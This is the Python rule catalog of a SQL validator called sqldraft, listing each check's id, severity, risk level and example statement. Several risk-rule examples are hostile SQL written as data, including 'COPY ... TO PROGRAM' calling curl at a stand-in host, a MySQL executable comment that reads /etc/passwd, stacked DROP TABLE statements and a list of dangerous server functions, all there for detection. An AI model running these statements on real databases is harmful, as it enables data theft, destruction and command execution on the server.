"""The rule catalog: every finding sqldraft can report, with its id, category, severity and example.

docs/rules.md is generated from this catalog (``python -m core.docgen``).
"""

from __future__ import annotations

from dataclasses import dataclass

from core.validation.model import Category, RiskLevel, Severity

ALL = ("postgresql", "mysql", "sqlite")
PG = ("postgresql",)
MY = ("mysql",)


@dataclass(frozen=True, slots=True)
class Rule:
    id: str
    category: Category
    severity: Severity
    description: str
    example: str
    dialects: tuple[str, ...] = ALL
    risk: RiskLevel | None = None
    """The risk a finding of this rule carries (risk rules only; some findings raise it)."""


def _rules(*rules: Rule) -> dict[str, Rule]:
    return {r.id: r for r in rules}


S, SC, P, R = Category.SYNTAX, Category.SCHEMA, Category.PERFORMANCE, Category.RISK
E, W, INFO = Severity.ERROR, Severity.WARNING, Severity.INFO

RULES: dict[str, Rule] = _rules(
    # --- syntax ---------------------------------------------------------------------------------
    Rule(
        "syntax.parse_error",
        S,
        E,
        "The statement does not parse in the connection's dialect.",
        "SELECT name FROM customers WHERE (id = 1",
    ),
    Rule(
        "syntax.unanalysable",
        S,
        W,
        "The parser can only keep the statement as opaque text, so nothing in it can be checked; "
        "it is treated as unsafe, never as safe.",
        "VACUUM FULL orders",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "syntax.too_complex",
        S,
        W,
        "The statement nests or branches too deeply to analyse within bounded time and memory; it fails "
        "closed (an error in query mode, high risk) instead of being assumed safe.",
        "SELECT * FROM (SELECT * FROM (SELECT * FROM ( ... 200 levels ... ) a) b) c",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "syntax.ambiguous_lexing",
        S,
        W,
        "Where the statements end, or what is a comment, depends on a server setting sqldraft does not know "
        "(MySQL's NO_BACKSLASH_ESCAPES without a snapshot), or the parser would read the text differently "
        "from the database; nothing in it can be trusted, so it fails closed.",
        "SELECT '\\'; DROP TABLE t; -- '   -- MySQL, sql_mode unknown",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "syntax.empty_join_condition",
        S,
        E,
        "A JOIN has ON with no condition after it.",
        "SELECT * FROM orders o JOIN customers c ON WHERE o.id = 1",
    ),
    Rule(
        "syntax.empty_list_item",
        S,
        E,
        "A list has an empty item (two commas in a row, or a comma before a closing parenthesis or FROM).",
        "SELECT id,, email FROM customers",
    ),
    Rule(
        "syntax.dialect_unsupported",
        S,
        E,
        "A construct the connection's database does not have "
        "(ILIKE or :: casts outside PostgreSQL, DISTINCT ON, FULL JOIN or NULLS FIRST in MySQL, ...).",
        "SELECT id FROM customers WHERE email ILIKE '%@example.com'  -- MySQL",
    ),
    Rule(
        "syntax.mysql_pipes",
        S,
        W,
        "In MySQL `||` means OR unless sql_mode has PIPES_AS_CONCAT; use CONCAT().",
        "SELECT first_name || ' ' || last_name FROM customers",
        dialects=MY,
    ),
    Rule(
        "syntax.server_rejected",
        S,
        E,
        "The database itself rejected the statement when asked to prepare it "
        "(optional server-side check; nothing is executed).",
        "SELECT nosuchfunction(1)",
    ),
    # --- schema ---------------------------------------------------------------------------------
    Rule(
        "schema.unknown_table",
        SC,
        E,
        "A table or view that is not in the snapshot (CTE names and aliases are not tables).",
        "SELECT * FROM custmers",
    ),
    Rule(
        "schema.unknown_column",
        SC,
        E,
        "A column that none of the tables in scope has, in SELECT, WHERE, "
        "UPDATE SET, INSERT column lists and everywhere else; with 'did you mean' suggestions.",
        "UPDATE orders SET statuz = 'paid' WHERE id = 7",
    ),
    Rule(
        "schema.unknown_alias",
        SC,
        E,
        "A qualifier (`x.col`) that names no table or alias in scope.",
        "SELECT o.id FROM orders AS ord",
    ),
    Rule(
        "schema.ambiguous_column",
        SC,
        E,
        "An unqualified column that more than one table in scope has.",
        "SELECT id FROM orders JOIN customers ON customers.id = orders.customer_id",
    ),
    Rule(
        "schema.alias_not_allowed",
        SC,
        E,
        "A select-list alias used where the dialect does not allow it "
        "(WHERE in PostgreSQL and MySQL, HAVING in PostgreSQL).",
        "SELECT total_amount * 2 AS doubled FROM orders WHERE doubled > 10  -- PostgreSQL",
    ),
    Rule(
        "schema.identifier_case",
        SC,
        E,
        "A name whose case does not match under the dialect's rules "
        "(PostgreSQL folds unquoted names to lower case; MySQL table names are case-sensitive when "
        "lower_case_table_names is 0).",
        'SELECT * FROM Orders  -- the table was created as "Orders"',
    ),
    Rule(
        "schema.double_quoted_string",
        SC,
        W,
        "Double-quoted text that the database reads as a string literal "
        "(MySQL always, SQLite when no column has that name); use single quotes for strings.",
        'SELECT * FROM customers WHERE country = "FR"',
        dialects=("mysql", "sqlite"),
    ),
    Rule(
        "schema.insert_count_mismatch",
        SC,
        E,
        "An INSERT whose rows have a different number of values than columns.",
        "INSERT INTO products (sku, name) VALUES ('A-1')",
    ),
    Rule(
        "schema.missing_not_null",
        SC,
        E,
        "An INSERT that leaves out a NOT NULL column without a default.",
        "INSERT INTO customers (email) VALUES ('a@example.com')  -- full_name is NOT NULL",
    ),
    Rule(
        "schema.create_existing",
        SC,
        E,
        "CREATE of a table, view or index that already exists (without IF NOT EXISTS / OR REPLACE).",
        "CREATE TABLE orders (id int)",
    ),
    Rule(
        "schema.ddl_missing_object",
        SC,
        E,
        "ALTER or DROP of a table, column or index that does not exist "
        "(without IF EXISTS), or ADD of a column that already exists.",
        "ALTER TABLE orders DROP COLUMN notes",
    ),
    # --- performance ----------------------------------------------------------------------------
    Rule(
        "perf.select_star",
        P,
        W,
        "SELECT * reads every column and breaks when columns change; name the columns.",
        "SELECT * FROM orders",
    ),
    Rule(
        "perf.unbounded_large_read",
        P,
        W,
        "A read of a large table (row estimate from the snapshot) without WHERE, LIMIT or aggregation.",
        "SELECT id, status FROM events",
    ),
    Rule(
        "perf.cartesian_product",
        P,
        W,
        "Tables joined with no condition linking them (a cartesian product).",
        "SELECT * FROM orders, customers",
    ),
    Rule(
        "perf.non_sargable_predicate",
        P,
        W,
        "A function, cast or arithmetic on an indexed column in a predicate keeps the index from being used.",
        "SELECT id FROM orders WHERE date(ordered_at) = '2025-03-01'",
    ),
    Rule(
        "perf.leading_wildcard",
        P,
        W,
        "LIKE with a leading wildcard cannot use a B-tree index.",
        "SELECT id FROM customers WHERE email LIKE '%@example.com'",
    ),
    Rule(
        "perf.not_in_nullable",
        P,
        W,
        "NOT IN (subquery) on a nullable column returns no rows as soon as the subquery yields a NULL; use NOT EXISTS.",
        "SELECT id FROM customers WHERE id NOT IN (SELECT customer_id FROM refunds)",
    ),
    Rule(
        "perf.order_by_random",
        P,
        W,
        "ORDER BY RANDOM()/RAND() sorts the whole result.",
        "SELECT id FROM products ORDER BY random() LIMIT 5",
    ),
    Rule(
        "perf.large_offset",
        P,
        W,
        "A large OFFSET still reads and discards every skipped row; use keyset pagination.",
        "SELECT id FROM orders ORDER BY id LIMIT 50 OFFSET 100000",
    ),
    Rule(
        "perf.unindexed_filter",
        P,
        W,
        "A filter or join column of a large table that no index starts with.",
        "SELECT id FROM events WHERE payload_kind = 'x'",
    ),
    Rule(
        "perf.null_comparison",
        P,
        W,
        "`= NULL` / `<> NULL` is never true; use IS NULL / IS NOT NULL.",
        "SELECT id FROM orders WHERE shipped_at = NULL",
    ),
    # --- risk -----------------------------------------------------------------------------------
    Rule(
        "risk.write_in_query",
        R,
        E,
        "A statement that changes data, schema or privileges in a script requested as a read-only query.",
        "DELETE FROM orders WHERE id = 1  -- mode query",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.multiple_statements",
        R,
        E,
        "More than one statement in a query (stacked statements are how read-only checks are bypassed).",
        "SELECT 1; DROP TABLE orders",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.transaction_control",
        R,
        E,
        "Transaction control in a query (COMMIT ends the read-only transaction a tool may have opened).",
        "COMMIT; SELECT 1",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.session_change",
        R,
        E,
        "A statement that changes session state in a query (SET, RESET, SELECT ... INTO @var, set_config).",
        "SET search_path = evil, public",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.mode_mismatch",
        R,
        E,
        "A statement that does not belong in the requested mode (DDL in a dml "
        "draft; data changes in a ddl draft are a warning).",
        "DROP TABLE orders  -- mode dml",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.update_without_where",
        R,
        W,
        "UPDATE without WHERE changes every row.",
        "UPDATE products SET active = 0",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.delete_without_where",
        R,
        W,
        "DELETE without WHERE removes every row.",
        "DELETE FROM payments",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.always_true_where",
        R,
        W,
        "A WHERE that is always true (1 = 1, OR TRUE, x = x) limits nothing.",
        "DELETE FROM orders WHERE 1 = 1 OR id = 5",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.drop",
        R,
        W,
        "DROP of a table, view, schema, database or index.",
        "DROP TABLE payments",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.truncate",
        R,
        W,
        "TRUNCATE removes every row at once (and cannot be rolled back in MySQL).",
        "TRUNCATE orders",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.cascade",
        R,
        W,
        "CASCADE reaches further than the object named; the finding lists the dependents from the snapshot.",
        "DROP TABLE customers CASCADE",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.drop_column",
        R,
        W,
        "DROP COLUMN loses the data and breaks every query that reads it.",
        "ALTER TABLE orders DROP COLUMN status",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.rename",
        R,
        W,
        "Renaming a table or column breaks every query, view and application that uses the old name.",
        "ALTER TABLE orders RENAME COLUMN status TO state",
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.set_not_null",
        R,
        W,
        "SET NOT NULL scans the whole table under a lock and fails if a NULL exists.",
        "ALTER TABLE customers ALTER COLUMN country SET NOT NULL",
        dialects=PG,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.add_column_not_null",
        R,
        E,
        "ADD COLUMN ... NOT NULL without a default fails on a table that "
        "has rows (PostgreSQL, SQLite); MySQL fills in the type's implicit default.",
        "ALTER TABLE orders ADD COLUMN channel text NOT NULL",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.pg_index_not_concurrent",
        R,
        W,
        "CREATE INDEX or DROP INDEX without CONCURRENTLY blocks writes to the table while it runs.",
        "CREATE INDEX ix_orders_status ON orders (status)",
        dialects=PG,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.pg_concurrently_in_transaction",
        R,
        E,
        "CREATE/DROP INDEX CONCURRENTLY cannot run inside a transaction block.",
        "BEGIN; CREATE INDEX CONCURRENTLY ix ON orders (status); COMMIT",
        dialects=PG,
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.pg_constraint_validation",
        R,
        W,
        "Adding a FOREIGN KEY or CHECK constraint without NOT VALID "
        "scans the table under a lock; add it NOT VALID, then VALIDATE CONSTRAINT.",
        "ALTER TABLE orders ADD CONSTRAINT fk_c FOREIGN KEY (customer_id) REFERENCES customers (id)",
        dialects=PG,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.pg_column_type_change",
        R,
        W,
        "Changing a column's type rewrites the table under an ACCESS EXCLUSIVE lock (most type changes).",
        "ALTER TABLE orders ALTER COLUMN total_amount TYPE numeric(14, 2)",
        dialects=PG,
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.pg_volatile_default",
        R,
        W,
        "ADD COLUMN with a volatile default (random(), clock_timestamp(), gen_random_uuid()) rewrites the whole table.",
        "ALTER TABLE orders ADD COLUMN token uuid DEFAULT gen_random_uuid()",
        dialects=PG,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.pg_missing_lock_timeout",
        R,
        W,
        "A migration that takes strong locks without SET lock_timeout "
        "first can queue behind a long query and block everything behind it.",
        "ALTER TABLE orders ADD COLUMN note text",
        dialects=PG,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.mysql_online_ddl",
        R,
        W,
        "ALTER TABLE without explicit ALGORITHM= and LOCK= may silently fall "
        "back to a blocking copy; say ALGORITHM=INSTANT or INPLACE, LOCK=NONE.",
        "ALTER TABLE orders ADD COLUMN note text",
        dialects=MY,
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.mysql_table_copy",
        R,
        W,
        "An ALTER that makes MySQL copy the whole table (column type change, "
        "primary key change, character set conversion).",
        "ALTER TABLE orders MODIFY total_amount decimal(14,2)",
        dialects=MY,
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.writable_cte",
        R,
        E,
        "A data-modifying statement inside WITH: a write hidden in a read.",
        "WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.select_into",
        R,
        E,
        "SELECT ... INTO creates a table (PostgreSQL) or assigns variables (MySQL).",
        "SELECT * INTO orders_copy FROM orders",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.file_access",
        R,
        E,
        "Reads or writes files or runs programs on the database server (INTO "
        "OUTFILE/DUMPFILE, COPY ... PROGRAM or a file, LOAD DATA, LOAD_FILE, pg_read_file, lo_import, "
        "ATTACH DATABASE, VACUUM INTO).",
        "COPY orders TO PROGRAM 'curl evil.example'",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.dangerous_function",
        R,
        E,
        "A function on the dialect's dangerous list: side effects on the server, files, network, sessions, "
        "replication or statistics, locks and sleeps, or SQL given as text (dblink, set_config, pg_sleep, "
        "SLEEP, BENCHMARK, advisory and named locks, nextval, query_to_xml, ts_stat, pg_stat_reset, "
        "MASTER_GTID_WAIT, load_extension); also huge generate_series/repeat arguments. Names are compared "
        "after decoding escapes and quotes, so U&\"pg\\005fsleep\" is pg_sleep.",
        "SELECT pg_sleep(600)",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.resource_exhaustion",
        R,
        W,
        "A read that makes the server generate or pair an enormous number of rows or bytes: cross joins of "
        "generate_series or of large tables (by the snapshot's row estimates), MariaDB seq_1_to_N tables, "
        "printf/format/array_fill with huge sizes, a recursive CTE with nothing that ends it.",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.unknown_function",
        R,
        W,
        "In a query, a function that is not on the dialect's allowlist of side-effect-free built-ins and is "
        "not a user function the snapshot records as immutable/stable (PostgreSQL) or NO SQL / READS SQL DATA "
        "(MySQL): unknown means unsafe. Extend the list per connection with --safe-functions.",
        "SELECT audit_and_return(id) FROM orders",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.locking_read",
        R,
        W,
        "A locking read (FOR UPDATE/SHARE, LOCK IN SHARE MODE) or LOCK TABLE blocks other sessions.",
        "SELECT * FROM orders WHERE id = 1 FOR UPDATE",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.privilege_change",
        R,
        E,
        "GRANT, REVOKE and role or user changes.",
        "GRANT ALL ON orders TO public",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.mysql_executable_comment",
        R,
        E,
        "A MySQL executable comment (/*! ... */): the server runs what looks like a comment.",
        "SELECT 1 /*!50000 , (SELECT LOAD_FILE('/etc/passwd')) */",
        dialects=MY,
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.replace",
        R,
        W,
        "REPLACE deletes the conflicting row before inserting (cascading deletes, lost columns).",
        "REPLACE INTO products (id, sku) VALUES (1, 'X')",
        dialects=MY,
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.dynamic_sql",
        R,
        E,
        "Dynamic or procedural SQL (PREPARE/EXECUTE, DO blocks, CALL) that cannot be checked.",
        "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.explain_analyze",
        R,
        E,
        "EXPLAIN ANALYZE runs the statement it explains.",
        "EXPLAIN ANALYZE DELETE FROM orders",
        risk=RiskLevel.CRITICAL,
    ),
    Rule(
        "risk.maintenance",
        R,
        E,
        "Maintenance and server commands (VACUUM, REINDEX, CLUSTER, REFRESH "
        "MATERIALIZED VIEW, PRAGMA with a value, FLUSH, KILL, ...).",
        "REINDEX TABLE orders",
        risk=RiskLevel.HIGH,
    ),
    Rule(
        "risk.data_change",
        R,
        INFO,
        "The statement changes rows: the draft's risk level reflects it (INSERT low; UPDATE, DELETE and MERGE medium).",
        "UPDATE orders SET status = 'paid' WHERE id = 7",
        risk=RiskLevel.MEDIUM,
    ),
    Rule(
        "risk.schema_change",
        R,
        INFO,
        "The statement changes the schema: the draft's risk level reflects it (CREATE low, ALTER medium).",
        "CREATE TABLE notes (id int PRIMARY KEY, body text)",
        risk=RiskLevel.MEDIUM,
    ),
)


def rule(rule_id: str) -> Rule:
    return RULES[rule_id]


def rules_markdown() -> str:
    """The rule table of docs/rules.md."""
    lines = []
    for category in Category:
        lines += [
            f"### {category.value}",
            "",
            "| id | severity | risk | dialects | what it finds | example |",
            "|---|---|---|---|---|---|",
        ]
        for r in RULES.values():
            if r.category is not category:
                continue
            dialects = "all" if r.dialects == ALL else ", ".join(r.dialects)
            example = r.example.replace("|", "\\|")
            lines.append(
                f"| `{r.id}` | {r.severity.value} | {r.risk.value if r.risk else '-'} | {dialects} "
                f"| {r.description} | `{example}` |"
            )
        lines.append("")
    return "\n".join(lines)
